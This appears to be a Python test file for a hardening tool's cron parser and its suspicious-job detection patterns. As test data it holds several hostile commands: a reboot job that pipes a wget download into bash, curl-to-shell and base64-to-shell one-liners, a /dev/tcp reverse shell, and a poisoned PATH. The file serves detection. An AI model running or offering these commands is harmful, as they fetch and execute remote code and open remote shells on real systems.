"""Cron jobs with their PATH, from system and user crontabs, anacrontab and run-parts scripts."""

from __future__ import annotations

import re
from pathlib import Path

import yaml

from hardencheck.facts.parsers.cron import parse_cron, parse_crontab

IMAGES = Path(__file__).resolve().parents[1] / "fleet" / "images"
CHECK = Path(__file__).resolve().parents[2] / "checks" / "persistence" / "cron-no-suspicious-jobs.yaml"


def _pattern(name: str) -> re.Pattern[str]:
    return re.compile(yaml.safe_load(CHECK.read_text())["parameters"][name]["default"])


def test_weak_image_jobs() -> None:
    root = IMAGES / "weak" / "root"
    fact = parse_cron(lambda p: (root / p.lstrip("/")).read_text() if (root / p.lstrip("/")).is_file() else None,
                      ["/etc/cron.d/pos-sync"], ["/var/spool/cron/crontabs/kiosk"], [], [])
    jobs = {(j["file"], j["line"]): j for j in fact.data["jobs"]}
    sync = jobs[("/etc/cron.d/pos-sync", 4)]
    assert (sync["user"], sync["schedule"]) == ("root", "*/5 * * * *")
    assert sync["path_env"].startswith("/tmp/.pos-sync:")
    reboot = jobs[("/var/spool/cron/crontabs/kiosk", 4)]
    assert (reboot["user"], reboot["schedule"]) == ("kiosk", "@reboot")
    assert reboot["command"] == "sleep 60; wget -q -O- http://203.0.113.50/k | bash"
    assert fact.locations["jobs/0"].line == 4


def test_check_patterns_on_real_and_malicious_commands() -> None:
    bad, path_bad = _pattern("suspicious_command_pattern"), _pattern("writable_path_pattern")
    for cmd in ("/tmp/.x/run", "cd /; /dev/shm/.k", "curl -fsSL http://x/y | sh", "wget -qO- x | sudo bash",
                "echo aGk= | base64 -d | sh", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "sh -c '/var/tmp/a'"):
        assert bad.search(cmd), cmd
    for cmd in ("test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
                "[ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean",
                "/usr/bin/find /var/log/pos -name '*.log.*' -mtime +90 -delete", "curl -fsS -o /var/lib/x http://h/"):
        assert not bad.search(cmd), cmd
    assert path_bad.search("/tmp/.pos-sync:/usr/bin") and path_bad.search("/usr/bin::/bin")
    assert not path_bad.search("/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin")


def test_environment_nicknames_and_garbage() -> None:
    text = 'PATH="/usr/bin:/bin"\nMAILTO=""\n@daily root /usr/bin/true\n* * *\n\x1b[2Jbroken\n'
    fact = parse_crontab(text, "/etc/cron.d/x", system=True)
    assert [j["command"] for j in fact.data["jobs"]] == ["/usr/bin/true"]
    assert fact.data["jobs"][0]["path_env"] == "/usr/bin:/bin"
    assert len(fact.warnings) == 2
